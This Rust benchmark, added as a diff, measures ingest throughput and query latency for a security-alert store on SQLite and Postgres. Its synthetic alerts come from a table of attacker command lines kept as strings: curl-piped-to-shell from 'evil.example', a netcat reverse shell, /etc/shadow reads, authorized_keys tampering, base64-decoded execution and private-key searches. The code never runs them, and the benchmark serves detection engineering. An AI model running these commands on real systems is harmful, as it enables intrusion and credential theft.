@@ -1,0 +1,803 @@
+//! Store benchmark: ingest throughput and alert-list latency.
+//!
+//! ```text
+//! PICKET_BENCH_ALERTS=1000000 cargo bench -p picket-store --bench store
+//! ```
+//!
+//! Environment:
+//! - `PICKET_BENCH_ALERTS`: alerts to store (default 1,000,000).
+//! - `PICKET_BENCH_SQLITE_PATH`: keep the SQLite file there and reuse it when
+//!   it already holds enough alerts (default: a temporary directory).
+//! - `PICKET_TEST_POSTGRES_URL`: also run against Postgres (schema
+//!   `picket_bench`, reused when it already holds enough alerts).
+//! - `PICKET_BENCH_PG_ALERTS`: alerts for Postgres (default: as SQLite).
+//! - `PICKET_BENCH_PG_WRITERS`: concurrent Postgres ingest tasks (default 2).
+//! - `PICKET_BENCH_QUERIES`: iterations per query kind (default 200).
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use anyhow::Context as _;
+use picket_store::model::{
+    AlertFilter, AlertSource, AlertStatus, AlertUpdate, Level, NewAlert, NewDevice,
+};
+use picket_store::postgres::PgStore;
+use picket_store::sqlite::SqliteStore;
+use picket_store::Store;
+
+const BATCH: usize = 256;
+const DEVICES: u64 = 3_000;
+const T0: i64 = 1_700_000_000_000;
+/// Mean gap between alerts: 10M alerts span ~12 days.
+const STEP_MS: i64 = 100;
+
+/// xorshift64*: deterministic, no dependency.
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
+    }
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+}
+
+struct Rule {
+    id: &'static str,
+    title: &'static str,
+    level: Level,
+    techniques: &'static [&'static str],
+    image: &'static str,
+    /// `{r}` becomes a random hex token, `{h}` a host, `{n}` a number.
+    cmd: &'static str,
+    path: Option<&'static str>,
+}
+
+macro_rules! rule {
+    ($id:expr, $title:expr, $level:ident, [$($t:expr),*], $image:expr, $cmd:expr, $path:expr) => {
+        Rule { id: $id, title: $title, level: Level::$level, techniques: &[$($t),*], image: $image, cmd: $cmd, path: $path }
+    };
+}
+
+const RULES: &[Rule] = &[
+    rule!(
+        "lnx-curl-pipe-sh",
+        "Download piped to shell",
+        High,
+        ["T1059.004", "T1105"],
+        "/usr/bin/curl",
+        "curl -fsSL http://{h}/{r}.sh | sh",
+        None
+    ),
+    rule!(
+        "lnx-wget-tmp",
+        "Download to /tmp",
+        Medium,
+        ["T1105"],
+        "/usr/bin/wget",
+        "wget -q -O /tmp/{r} http://{h}/payload/{r}",
+        Some("/tmp/{r}")
+    ),
+    rule!(
+        "lnx-chmod-tmp",
+        "Executable bit in /tmp",
+        Medium,
+        ["T1222.002"],
+        "/bin/chmod",
+        "chmod +x /tmp/{r}",
+        Some("/tmp/{r}")
+    ),
+    rule!(
+        "lnx-shadow-read",
+        "Shadow file read",
+        High,
+        ["T1003.008"],
+        "/bin/cat",
+        "cat /etc/shadow",
+        Some("/etc/shadow")
+    ),
+    rule!(
+        "lnx-nc-shell",
+        "Netcat reverse shell",
+        Critical,
+        ["T1059.004", "T1095"],
+        "/bin/nc",
+        "nc -e /bin/sh 10.{n}.{n}.{n} 4444",
+        None
+    ),
+    rule!(
+        "lnx-cron-write",
+        "Cron file written",
+        Medium,
+        ["T1053.003"],
+        "/usr/bin/crontab",
+        "crontab /tmp/{r}.cron",
+        Some("/etc/cron.d/{r}")
+    ),
+    rule!(
+        "lnx-ssh-keys",
+        "SSH authorized_keys changed",
+        High,
+        ["T1098.004"],
+        "/usr/bin/tee",
+        "tee -a /root/.ssh/authorized_keys",
+        Some("/root/.ssh/authorized_keys")
+    ),
+    rule!(
+        "lnx-python-pty",
+        "Python pty spawn",
+        High,
+        ["T1059.006"],
+        "/usr/bin/python3",
+        "python3 -c import pty;pty.spawn('/bin/bash') # {r}",
+        None
+    ),
+    rule!(
+        "lnx-base64-exec",
+        "Base64 decoded execution",
+        High,
+        ["T1140", "T1059.004"],
+        "/bin/bash",
+        "bash -c echo {r}{r}{r} | base64 -d | bash",
+        None
+    ),
+    rule!(
+        "lnx-sudo-shell",
+        "Sudo to shell",
+        Low,
+        ["T1548.003"],
+        "/usr/bin/sudo",
+        "sudo -s -u root # session {n}",
+        None
+    ),
+    rule!(
+        "lnx-useradd",
+        "User account created",
+        Medium,
+        ["T1136.001"],
+        "/usr/sbin/useradd",
+        "useradd -m -s /bin/bash svc{r}",
+        Some("/etc/passwd")
+    ),
+    rule!(
+        "lnx-kmod-load",
+        "Kernel module loaded",
+        High,
+        ["T1547.006"],
+        "/sbin/insmod",
+        "insmod /lib/modules/{r}.ko",
+        Some("/lib/modules/{r}.ko")
+    ),
+    rule!(
+        "lnx-history-clear",
+        "Shell history cleared",
+        Medium,
+        ["T1070.003"],
+        "/bin/rm",
+        "rm -f /root/.bash_history",
+        Some("/root/.bash_history")
+    ),
+    rule!(
+        "lnx-proc-discovery",
+        "Process discovery",
+        Informational,
+        ["T1057"],
+        "/bin/ps",
+        "ps auxww",
+        None
+    ),
+    rule!(
+        "lnx-net-discovery",
+        "Network configuration discovery",
+        Informational,
+        ["T1016"],
+        "/sbin/ip",
+        "ip addr show dev eth{n}",
+        None
+    ),
+    rule!(
+        "lnx-systemd-unit",
+        "Systemd unit created",
+        Medium,
+        ["T1543.002"],
+        "/bin/systemctl",
+        "systemctl enable {r}.service",
+        Some("/etc/systemd/system/{r}.service")
+    ),
+    rule!(
+        "lnx-ld-preload",
+        "LD_PRELOAD set",
+        Critical,
+        ["T1574.006"],
+        "/usr/bin/env",
+        "env LD_PRELOAD=/tmp/{r}.so /bin/ls",
+        Some("/etc/ld.so.preload")
+    ),
+    rule!(
+        "lnx-dns-tunnel",
+        "Long DNS query",
+        Low,
+        ["T1071.004"],
+        "/usr/bin/dig",
+        "dig {r}{r}.{h} TXT",
+        None
+    ),
+    rule!(
+        "lnx-ssh-brute",
+        "SSH login failures",
+        Low,
+        ["T1110.001"],
+        "/usr/sbin/sshd",
+        "sshd: invalid user admin{n} from 10.0.{n}.{n}",
+        None
+    ),
+    rule!(
+        "lnx-file-discovery",
+        "Sensitive file discovery",
+        Informational,
+        ["T1083"],
+        "/usr/bin/find",
+        "find / -name id_rsa -o -name *.pem # {n}",
+        None
+    ),
+];
+
+/// Rule pick, weighted so informational/low/medium dominate like a fleet.
+fn pick_rule(rng: &mut Rng) -> &'static Rule {
+    let x = rng.below(100);
+    let i = match x {
+        0..=19 => 13,
+        20..=34 => 14,
+        35..=44 => 19,
+        45..=54 => 18,
+        55..=60 => 9,
+        61..=65 => 17,
+        66..=70 => 1,
+        71..=74 => 2,
+        75..=77 => 5,
+        78..=80 => 10,
+        81..=83 => 12,
+        84..=85 => 15,
+        86..=87 => 0,
+        88..=89 => 3,
+        90..=91 => 6,
+        92..=93 => 7,
+        94..=95 => 8,
+        96..=97 => 11,
+        98 => 4,
+        _ => 16,
+    };
+    &RULES[i]
+}
+
+const HOSTS: &[&str] = &[
+    "cdn.example.net",
+    "update.example.org",
+    "evil.example",
+    "files.example.com",
+];
+
+fn fill(template: &str, rng: &mut Rng) -> String {
+    let mut out = String::with_capacity(template.len() + 32);
+    let mut rest = template;
+    while let Some(i) = rest.find('{') {
+        out.push_str(&rest[..i]);
+        let tag = &rest[i..i + 3];
+        match tag {
+            "{r}" => out.push_str(&format!("{:08x}", rng.next() as u32)),
+            "{h}" => out.push_str(HOSTS[rng.below(HOSTS.len() as u64) as usize]),
+            "{n}" => out.push_str(&rng.below(255).to_string()),
+            _ => out.push_str(tag),
+        }
+        rest = &rest[i + 3..];
+    }
+    out.push_str(rest);
+    out
+}
+
+fn device_id(d: u64) -> String {
+    format!("{:032x}", 0xd000_0000_0000_0000_u128 + u128::from(d))
+}
+
+/// Batch `b` of the fill: 256 alerts of one device (as one uplink batch).
+fn batch(b: u64, rng: &mut Rng) -> Vec<NewAlert> {
+    let dev = b % DEVICES;
+    (0..BATCH as u64)
+        .map(|i| {
+            let n = b * BATCH as u64 + i;
+            let rule = pick_rule(rng);
+            let cmd = fill(rule.cmd, rng);
+            let path = rule.path.map(|p| fill(p, rng));
+            let ts = T0 + i64::try_from(n).unwrap_or(0) * STEP_MS + i64::try_from(rng.below(5_000)).unwrap_or(0);
+            let pid = rng.below(60_000);
+            NewAlert {
+                id: format!("{:032x}", (u128::from(rng.next()) << 64) | u128::from(n)),
+                device_id: device_id(dev),
+                seq: n,
+                timestamp_ms: ts,
+                received_ms: ts + 150,
+                level: rule.level,
+                source: if n.is_multiple_of(50) { AlertSource::Upload } else { AlertSource::Appliance },
+                rule_id: rule.id.to_owned(),
+                rule_title: rule.title.to_owned(),
+                techniques: rule.techniques.iter().map(|t| (*t).to_owned()).collect(),
+                image: Some(rule.image.to_owned()),
+                command_line: Some(cmd.clone()),
+                path: path.clone(),
+                event: serde_json::json!({
+                    "kind": "process_exec",
+                    "host": format!("gw-{dev}"),
+                    "process": {"pid": pid, "ppid": 1, "uid": 0, "image": rule.image, "command_line": cmd},
+                    "file": path,
+                }),
+            }
+        })
+        .collect()
+}
+
+fn percentile(sorted: &[Duration], p: f64) -> Duration {
+    if sorted.is_empty() {
+        return Duration::ZERO;
+    }
+    let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
+    sorted[i.min(sorted.len() - 1)]
+}
+
+fn ms(d: Duration) -> String {
+    format!("{:.2}", d.as_secs_f64() * 1e3)
+}
+
+struct Row {
+    name: String,
+    p50: Duration,
+    p99: Duration,
+    rows: usize,
+}
+
+async fn ensure_filled(
+    store: &Arc<dyn Store>,
+    target: u64,
+    writers: usize,
+) -> anyhow::Result<Option<f64>> {
+    let have = store.stats().await?.alerts;
+    if have >= target {
+        println!("  reusing {have} stored alerts");
+        return Ok(None);
+    }
+    let devices = store.devices().await?.len() as u64;
+    if devices < DEVICES {
+        for d in 0..DEVICES {
+            let _ = store
+                .insert_device(NewDevice {
+                    id: device_id(d),
+                    hostname: format!("gw-{d}"),
+                    public_key: vec![0; 32],
+                    cert_serial: format!("{d:x}"),
+                    agent_version: "1.0.0".into(),
+                    enrolled_ms: T0,
+                })
+                .await;
+        }
+    }
+    let first = have / BATCH as u64;
+    let batches = target.div_ceil(BATCH as u64);
+    let start = Instant::now();
+    let next = Arc::new(std::sync::atomic::AtomicU64::new(first));
+    let mut tasks = Vec::new();
+    for w in 0..writers {
+        let store = Arc::clone(store);
+        let next = Arc::clone(&next);
+        tasks.push(tokio::spawn(async move {
+            let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ (w as u64 + 1));
+            let mut inserted = 0u64;
+            loop {
+                let b = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+                if b >= batches {
+                    return anyhow::Ok(inserted);
+                }
+                rng.0 ^= b.wrapping_mul(0x1000_0000_01b3);
+                let alerts = batch(b, &mut rng);
+                inserted += store.insert_alerts(&alerts).await?.inserted;
+                if b.is_multiple_of(4_000) && w == 0 {
+                    println!(
+                        "  ... batch {b}/{batches} ({:.0}s)",
+                        start.elapsed().as_secs_f64()
+                    );
+                }
+            }
+        }));
+    }
+    let mut inserted = 0;
+    for t in tasks {
+        inserted += t.await??;
+    }
+    let secs = start.elapsed().as_secs_f64();
+    let rate = inserted as f64 / secs;
+    println!("  inserted {inserted} alerts in {secs:.1}s: {rate:.0} alerts/s (batches of {BATCH}, {writers} writer(s))");
+    Ok(Some(rate))
+}
+
+async fn time_queries(store: &Arc<dyn Store>, n: u64, iters: usize) -> anyhow::Result<Vec<Row>> {
+    // Some workflow state to filter on.
+    let acked = AlertFilter {
+        status: Some(AlertStatus::Acknowledged),
+        ..Default::default()
+    };
+    if store.alerts(&acked, None, 1).await?.alerts.is_empty() {
+        let mut after = None;
+        let f = AlertFilter {
+            rule_id: Some("lnx-shadow-read".into()),
+            ..Default::default()
+        };
+        for _ in 0..10 {
+            let page = store.alerts(&f, after, 100).await?;
+            for a in &page.alerts {
+                let u = AlertUpdate {
+                    status: Some(AlertStatus::Acknowledged),
+                    assignee: Some(Some("alice".into())),
+                };
+                store.update_alert(&a.alert.id, &u, T0).await?;
+            }
+            after = page.next;
+        }
+    }
+    // A rare needle: a random token from an alert in the middle.
+    let mid_ts = T0 + i64::try_from(n / 2).unwrap_or(0) * STEP_MS;
+    let mid = store
+        .alerts(
+            &AlertFilter {
+                until_ms: Some(mid_ts),
+                rule_id: Some("lnx-wget-tmp".into()),
+                ..Default::default()
+            },
+            None,
+            1,
+        )
+        .await?;
+    let rare = mid
+        .alerts
+        .first()
+        .and_then(|a| a.alert.path.clone())
+        .map(|p| p.trim_start_matches("/tmp/").to_uppercase())
+        .unwrap_or_else(|| "deadbeef".into());
+    let span = i64::try_from(n).unwrap_or(0) * STEP_MS;
+    // Devices that have alerts (batch b comes from device b % DEVICES).
+    let live = DEVICES.min((n / BATCH as u64).max(1));
+
+    let mut rng = Rng(42);
+    type Gen = Box<dyn Fn(&mut Rng) -> AlertFilter>;
+    let rare2 = rare.clone();
+    let kinds: Vec<(&str, Gen)> = vec![
+        ("newest page", Box::new(|_| AlertFilter::default())),
+        (
+            "by device",
+            Box::new(move |r| AlertFilter {
+                device_id: Some(device_id(r.below(live))),
+                ..Default::default()
+            }),
+        ),
+        (
+            "min level high",
+            Box::new(|_| AlertFilter {
+                min_level: Some(Level::High),
+                ..Default::default()
+            }),
+        ),
+        (
+            "min level critical",
+            Box::new(|_| AlertFilter {
+                min_level: Some(Level::Critical),
+                ..Default::default()
+            }),
+        ),
+        (
+            "by rule",
+            Box::new(|r| AlertFilter {
+                rule_id: Some(RULES[r.below(RULES.len() as u64) as usize].id.into()),
+                ..Default::default()
+            }),
+        ),
+        (
+            "technique T1059 (parent)",
+            Box::new(|_| AlertFilter {
+                technique: Some("T1059".into()),
+                ..Default::default()
+            }),
+        ),
+        (
+            "technique T1574.006 (rare)",
+            Box::new(|_| AlertFilter {
+                technique: Some("T1574.006".into()),
+                ..Default::default()
+            }),
+        ),
+        (
+            "status acknowledged",
+            Box::new(|_| AlertFilter {
+                status: Some(AlertStatus::Acknowledged),
+                ..Default::default()
+            }),
+        ),
+        (
+            "status new",
+            Box::new(|_| AlertFilter {
+                status: Some(AlertStatus::New),
+                ..Default::default()
+            }),
+        ),
+        (
+            "source upload",
+            Box::new(|_| AlertFilter {
+                source: Some(AlertSource::Upload),
+                ..Default::default()
+            }),
+        ),
+        (
+            "time range (1 h)",
+            Box::new(move |r| {
+                let s = T0
+                    + i64::try_from(r.below(u64::try_from(span).unwrap_or(1).max(1))).unwrap_or(0);
+                AlertFilter {
+                    since_ms: Some(s),
+                    until_ms: Some(s + 3_600_000),
+                    ..Default::default()
+                }
+            }),
+        ),
+        (
+            "device + min level medium",
+            Box::new(move |r| AlertFilter {
+                device_id: Some(device_id(r.below(live))),
+                min_level: Some(Level::Medium),
+                ..Default::default()
+            }),
+        ),
+        (
+            "text rare (token)",
+            Box::new(move |_| AlertFilter {
+                text: Some(rare2.clone()),
+                ..Default::default()
+            }),
+        ),
+        (
+            "text common ('shadow')",
+            Box::new(|_| AlertFilter {
+                text: Some("SHADOW".into()),
+                ..Default::default()
+            }),
+        ),
+        (
+            "text very common ('bin')",
+            Box::new(|_| AlertFilter {
+                text: Some("bin".into()),
+                ..Default::default()
+            }),
+        ),
+    ];
+    let mut out = Vec::new();
+    for (name, gen) in &kinds {
+        let mut times = Vec::with_capacity(iters);
+        let mut rows = 0;
+        let heavy = name.starts_with("text");
+        let count = if heavy { iters.min(50) } else { iters };
+        for _ in 0..count {
+            let f = gen(&mut rng);
+            let t = Instant::now();
+            let page = store.alerts(&f, None, 50).await?;
+            times.push(t.elapsed());
+            rows = page.alerts.len();
+        }
+        times.sort();
+        out.push(Row {
+            name: (*name).to_owned(),
+            p50: percentile(&times, 0.5),
+            p99: percentile(&times, 0.99),
+            rows,
+        });
+    }
+    // Second page via cursor.
+    let mut times = Vec::with_capacity(iters);
+    let mut rows = 0;
+    for _ in 0..iters {
+        let f = AlertFilter {
+            device_id: Some(device_id(rng.below(live))),
+            ..Default::default()
+        };
+        let first = store.alerts(&f, None, 50).await?;
+        let t = Instant::now();
+        let page = store.alerts(&f, first.next, 50).await?;
+        times.push(t.elapsed());
+        rows = page.alerts.len();
+    }
+    times.sort();
+    out.push(Row {
+        name: "second page (device, cursor)".into(),
+        p50: percentile(&times, 0.5),
+        p99: percentile(&times, 0.99),
+        rows,
+    });
+    let t = Instant::now();
+    let counts = store
+        .alert_counts(
+            &AlertFilter {
+                since_ms: Some(T0 + span - 86_400_000),
+                ..Default::default()
+            },
+            3_600_000,
+        )
+        .await?;
+    out.push(Row {
+        name: "alert_counts last 24 h (1 run)".into(),
+        p50: t.elapsed(),
+        p99: t.elapsed(),
+        rows: counts.len(),
+    });
+    println!("  rare needle: {rare:?}");
+    Ok(out)
+}
+
+/// Baselines on the same SQLite file, bypassing the store's indexes.
+fn sqlite_baselines(path: &std::path::Path) -> anyhow::Result<Vec<Row>> {
+    let c =
+        rusqlite::Connection::open_with_flags(path, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)?;
+    let mut out = Vec::new();
+    let mut run = |name: &str, sql: &str, iters: usize| -> anyhow::Result<()> {
+        let mut times = Vec::new();
+        let mut rows = 0;
+        for _ in 0..iters {
+            let t = Instant::now();
+            let mut s = c.prepare_cached(sql)?;
+            rows = s.query_map([], |r| r.get::<_, i64>(0))?.count();
+            times.push(t.elapsed());
+        }
+        times.sort();
+        out.push(Row {
+            name: name.to_owned(),
+            p50: percentile(&times, 0.5),
+            p99: percentile(&times, 0.99),
+            rows,
+        });
+        Ok(())
+    };
+    run(
+        "baseline: min level high, NOT INDEXED + sort",
+        "SELECT row FROM alerts NOT INDEXED WHERE level >= 3 ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
+        3,
+    )?;
+    run(
+        "baseline: min level high, one range query",
+        "SELECT row FROM alerts WHERE level >= 3 ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
+        3,
+    )?;
+    run(
+        "baseline: text 'shadow' via LIKE scan",
+        "SELECT row FROM alerts WHERE command_line LIKE '%shadow%' OR image LIKE '%shadow%' OR path LIKE '%shadow%' ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
+        3,
+    )?;
+    run(
+        "baseline: rare token via LIKE scan",
+        "SELECT row FROM alerts WHERE command_line LIKE '%0badf00d%' OR image LIKE '%0badf00d%' OR path LIKE '%0badf00d%' ORDER BY timestamp_ms DESC, row DESC LIMIT 50",
+        3,
+    )?;
+    Ok(out)
+}
+
+/// Raw insert ceiling: the same alerts into one table with no secondary
+/// index and no FTS, same pragmas, one transaction per batch.
+fn sqlite_raw_insert(dir: &std::path::Path, n: u64) -> anyhow::Result<f64> {
+    let path = dir.join("raw-baseline.db");
+    let _ = std::fs::remove_file(&path);
+    let c = rusqlite::Connection::open(&path)?;
+    c.execute_batch(
+        "PRAGMA journal_mode = WAL; PRAGMA synchronous = NORMAL; \
+         CREATE TABLE alerts (row INTEGER PRIMARY KEY, id TEXT NOT NULL, device_id TEXT, seq INTEGER, \
+         timestamp_ms INTEGER, level INTEGER, rule_id TEXT, command_line TEXT, event TEXT);",
+    )?;
+    let mut rng = Rng(7);
+    let batches = n.div_ceil(BATCH as u64);
+    let mut total = Duration::ZERO;
+    for b in 0..batches {
+        let alerts = batch(b, &mut rng);
+        let t = Instant::now();
+        let tx = c.unchecked_transaction()?;
+        {
+            let mut s = tx.prepare_cached(
+                "INSERT INTO alerts (id, device_id, seq, timestamp_ms, level, rule_id, command_line, event) \
+                 VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)",
+            )?;
+            for a in &alerts {
+                s.execute(rusqlite::params![
+                    a.id,
+                    a.device_id,
+                    a.seq as i64,
+                    a.timestamp_ms,
+                    a.level.as_i16(),
+                    a.rule_id,
+                    a.command_line,
+                    serde_json::to_string(&a.event)?
+                ])?;
+            }
+        }
+        tx.commit()?;
+        total += t.elapsed();
+    }
+    drop(c);
+    for ext in ["", "-wal", "-shm"] {
+        let _ = std::fs::remove_file(format!("{}{ext}", path.display()));
+    }
+    Ok((batches * BATCH as u64) as f64 / total.as_secs_f64())
+}
+
+fn print_table(title: &str, n: u64, rows: &[Row]) {
+    println!("\n{title}: {n} alerts stored, page size 50");
+    println!("| query | p50 ms | p99 ms | rows |");
+    println!("|---|---:|---:|---:|");
+    for r in rows {
+        println!(
+            "| {} | {} | {} | {} |",
+            r.name,
+            ms(r.p50),
+            ms(r.p99),
+            r.rows
+        );
+    }
+}
+
+fn env_u64(name: &str, default: u64) -> u64 {
+    std::env::var(name)
+        .ok()
+        .and_then(|v| v.replace('_', "").parse().ok())
+        .unwrap_or(default)
+}
+
+#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
+async fn main() -> anyhow::Result<()> {
+    // `cargo bench` passes `--bench`; `cargo test --benches` would too:
+    // only run when asked to bench.
+    if !std::env::args().any(|a| a == "--bench") {
+        return Ok(());
+    }
+    let n = env_u64("PICKET_BENCH_ALERTS", 1_000_000);
+    let iters = usize::try_from(env_u64("PICKET_BENCH_QUERIES", 200)).unwrap_or(200);
+    let tmp = tempfile::tempdir()?;
+    let path = std::env::var_os("PICKET_BENCH_SQLITE_PATH")
+        .map_or_else(|| tmp.path().join("bench.db"), std::path::PathBuf::from);
+
+    println!("SQLite at {}", path.display());
+    let raw = sqlite_raw_insert(tmp.path(), n.min(200_000))?;
+    println!("  baseline: raw insert, no secondary indexes, no FTS: {raw:.0} alerts/s");
+    let sqlite: Arc<dyn Store> = Arc::new(SqliteStore::open(&path).context("open sqlite")?);
+    ensure_filled(&sqlite, n, 1).await?;
+    let stats = sqlite.stats().await?;
+    println!(
+        "  {} alerts, {:.2} GiB on disk",
+        stats.alerts,
+        stats.bytes.unwrap_or(0) as f64 / (1u64 << 30) as f64
+    );
+    let mut rows = time_queries(&sqlite, stats.alerts, iters).await?;
+    rows.extend(sqlite_baselines(&path)?);
+    print_table("SQLite", stats.alerts, &rows);
+
+    if let Ok(url) = std::env::var("PICKET_TEST_POSTGRES_URL") {
+        let pn = env_u64("PICKET_BENCH_PG_ALERTS", n);
+        let writers = usize::try_from(env_u64("PICKET_BENCH_PG_WRITERS", 2)).unwrap_or(2);
+        println!("\nPostgres (schema picket_bench)");
+        let pg: Arc<dyn Store> =
+            Arc::new(PgStore::connect_with_schema(&url, "picket_bench").await?);
+        ensure_filled(&pg, pn, writers).await?;
+        let stats = pg.stats().await?;
+        println!(
+            "  {} alerts, {:.2} GiB on disk",
+            stats.alerts,
+            stats.bytes.unwrap_or(0) as f64 / (1u64 << 30) as f64
+        );
+        let rows = time_queries(&pg, stats.alerts, iters).await?;
+        print_table("Postgres", stats.alerts, &rows);
+    } else {
+        println!("\nPICKET_TEST_POSTGRES_URL unset: Postgres skipped");
+    }
+    Ok(())
+}
